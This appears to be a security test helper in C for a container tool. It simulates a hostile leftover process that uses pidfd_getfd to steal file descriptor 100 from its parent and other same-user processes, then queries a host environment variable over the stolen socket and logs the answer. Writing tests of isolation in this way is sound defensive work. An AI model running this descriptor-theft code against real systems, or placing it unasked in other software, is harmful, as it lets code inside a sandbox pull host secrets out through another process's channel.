/* SPDX-License-Identifier: MIT */
/*
 * Stand-in for a job that image code leaves behind, running as the same
 * user as the shell: for SECONDS it tries to take fd 100 of every other
 * process (its parent first: an entrypoint's daemon waits for the shell
 * its parent execs) with pidfd_getfd(2), which a process allows to its
 * user while it is dumpable, as every process is right after an exec.  On
 * a socket it gets, it asks for a host variable and appends the answer to
 * OUT.  Built static by the tests.
 *
 *   grab OUT VAR SECONDS
 */
#include <sys/stat.h>
#include <sys/syscall.h>

#include <dirent.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void frame(int fd, uint32_t type, const char *p)
{
	uint32_t len = (uint32_t)strlen(p);
	unsigned char h[8] = {type & 255, 0, 0, 0, len & 255, len >> 8, 0, 0};

	(void)!write(fd, h, 8);
	(void)!write(fd, p, len);
}

/* 1 when fd 100 of PID was a socket, asked and answered into OUT. */
static int grab(pid_t pid, const char *var, FILE *out)
{
	char line[256], buf[4096];
	struct stat st;
	struct pollfd p;
	ssize_t n;
	int pfd = (int)syscall(SYS_pidfd_open, pid, 0), fd;

	if (pfd < 0)
		return 0;
	fd = (int)syscall(SYS_pidfd_getfd, pfd, 100, 0);
	close(pfd);
	if (fd < 0)
		return 0;
	if (fstat(fd, &st) < 0 || !S_ISSOCK(st.st_mode)) {
		close(fd);
		return 0;
	}
	fprintf(out, "got it from pid %d\n", (int)pid);
	snprintf(line, sizeof(line), "#envhost %s", var);
	frame(fd, 2, "/");
	frame(fd, 3, line);
	p.fd = fd;
	p.events = POLLIN;
	while (poll(&p, 1, 2000) > 0 && (n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, out);
	fputc('\n', out);
	close(fd);
	return 1;
}

int main(int argc, char **argv)
{
	FILE *out;
	time_t end;
	pid_t self = getpid();

	if (argc != 4)
		return 2;
	out = fopen(argv[1], "a");
	if (!out)
		return 1;
	setvbuf(out, NULL, _IONBF, 0);
	fprintf(out, "grab start\n");
	end = time(NULL) + atoi(argv[3]);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		for (int i = 0; i < 50; i++)
			grab(getppid(), argv[2], out);
		while (d && (e = readdir(d))) {
			pid_t pid = (pid_t)atoi(e->d_name);
			if (pid > 1 && pid != self)
				grab(pid, argv[2], out);
		}
		if (d)
			closedir(d);
	}
	fprintf(out, "grab done\n");
	fclose(out);
	return 0;
}
